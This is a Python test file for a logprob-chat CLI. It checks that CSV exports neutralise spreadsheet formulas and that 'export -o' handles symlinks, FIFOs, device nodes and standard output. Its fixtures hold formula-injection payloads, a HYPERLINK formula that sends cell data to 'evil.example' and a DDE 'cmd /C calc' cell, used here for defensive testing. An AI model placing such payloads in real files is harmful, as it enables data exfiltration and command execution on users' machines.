"""Files a person opens or points at (issue 17, items 13 and 14): a CSV whose model text a
spreadsheet would run as formulas, and ``export -o`` (and the config files) on paths that are
not plain files: a symbolic link, a FIFO, a device node, standard output."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys
import threading
from pathlib import Path

from tests.faults.support import run_together
from tests.support.scripted_server import Reply, stream_of
from tui.cli.main import main
from tui.core.config import load_config, save_ui_settings
from tui.core.presets import PresetStore

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]


def _run(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "tui", *args],
        capture_output=True, cwd=ROOT, env=dict(os.environ), timeout=60,
    )  # fmt: skip


def _ask_formulas(scripted) -> None:
    tokens = [(text, -0.5, [(text, -0.5), ("=cmd|' /C calc'!A0", -1.0)]) for text in FORMULAS]
    scripted.queue(Reply.sse(stream_of(tokens)))
    asked = _run("ask", "--base-url", scripted.base_url, "--model", "m", "Formulas?")
    assert asked.returncode == 0, asked.stderr


def test_csv_text_cells_a_spreadsheet_would_run_are_neutralised(scripted, capsys):
    _ask_formulas(scripted)
    exported, raw = run_together(
        [
            ["export", "--last", "--format", "csv"],
            ["export", "--last", "--format", "csv", "--raw-cells"],
        ]
    )
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [row["token"] for row in rows] == ["'" + text for text in FORMULAS]
    assert [row["alt2_text"] for row in rows] == ["'=cmd|' /C calc'!A0"] * 4
    for row in rows:  # numbers stay numbers: a negative logprob is not a formula
        assert row["logprob"] == "-0.5" and row["alt2_logprob"] == "-1.0"
    for row in csv.reader(io.StringIO(exported.stdout)):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    assert [r["token"] for r in csv.DictReader(io.StringIO(raw.stdout))] == FORMULAS
    # The comparison's CSV (the answer text and the prompt are cells too).
    scripted.default = lambda request: Reply.sse(stream_of([("=1+2", -0.1)]))
    argv = ["compare", "--base-url", scripted.base_url, "--model", "m", "--samples", "1"]
    assert main([*argv, "--system", "@me", "--csv", "q"]) == 0
    sample = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (sample["answer"], sample["label"], sample["status"]) == ("'=1+2", "'@me", "ok")
    assert float(sample["mean_logprob"]) == -0.1
    assert main([*argv, "--system", "@me", "--csv", "--raw-cells", "q"]) == 0
    assert next(csv.DictReader(io.StringIO(capsys.readouterr().out)))["answer"] == "=1+2"


def test_export_o_writes_through_links_fifos_and_standard_output_and_refuses_devices(
    scripted, tmp_path
):
    _ask_formulas(scripted)
    real = tmp_path / "real" / "out.md"
    real.parent.mkdir()
    link = tmp_path / "link.md"
    link.symlink_to(real)  # (dangling: the file is made)
    null = os.stat("/dev/null")
    md = ["export", "--last", "--format", "md"]
    expected, linked, refused, dash, stdout = run_together(
        [md, ["export", "--last", "-o", str(link)], [*md, "-o", "/dev/null"],
         [*md, "-o", "-"], [*md, "-o", "/dev/stdout"]]
    )  # fmt: skip
    assert expected.returncode == 0 and expected.stdout
    same_export = _without_export_time  # (the exports may fall in different minutes)
    # A symbolic link: the file it names is written, the link stays a link.
    assert linked.returncode == 0 and link.is_symlink()
    assert same_export(real.read_text()) == same_export(expected.stdout)
    assert stat.S_IMODE(real.stat().st_mode) == 0o600
    # A device node other than standard output: refused in one line, left as it is.
    assert refused.returncode == 1 and refused.stdout == ""
    assert refused.stderr == (
        "logprob-chat: error: cannot write /dev/null: is a device node; only standard output "
        "and standard error are written to (-o - is standard output)\n"
    )
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode) and os.stat("/dev/null").st_ino == null.st_ino
    # Standard output, as - or by name.
    for out in (dash, stdout):
        assert out.returncode == 0, out.stderr
        assert same_export(out.stdout) == same_export(expected.stdout)
    assert not (ROOT / "-").exists()
    # A FIFO: its reader gets the export (a rename left it waiting, and a file in its place).
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
    reader.start()
    written = _run("export", "--last", "-o", str(fifo))
    reader.join(timeout=30)
    assert written.returncode == 0 and len(received) == 1
    assert same_export(received[0]) == same_export(expected.stdout)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_a_symlinked_presets_or_config_file_stays_a_link(tmp_path, isolated_home):
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    config_dir = isolated_home / "config"
    config_dir.mkdir(parents=True)
    for name in ("presets.toml", "config.toml"):
        (dotfiles / name).write_text("")
        (config_dir / name).symlink_to(dotfiles / name)
    PresetStore().save("short", "Be brief.")
    save_ui_settings(heatmap=False)
    for name in ("presets.toml", "config.toml"):
        assert (config_dir / name).is_symlink(), name
    assert 'name = "short"' in (dotfiles / "presets.toml").read_text()
    assert "heatmap = false" in (dotfiles / "config.toml").read_text()
    assert [p.name for p in PresetStore().saved] == ["short"] and load_config().ui.heatmap is False


def _without_export_time(markdown: str) -> str:
    """A Markdown export without its "Exported" cell (the time, to the minute, of the run)."""
    return re.sub(r"\| Exported \| [^|]* \|", "| Exported | … |", markdown)
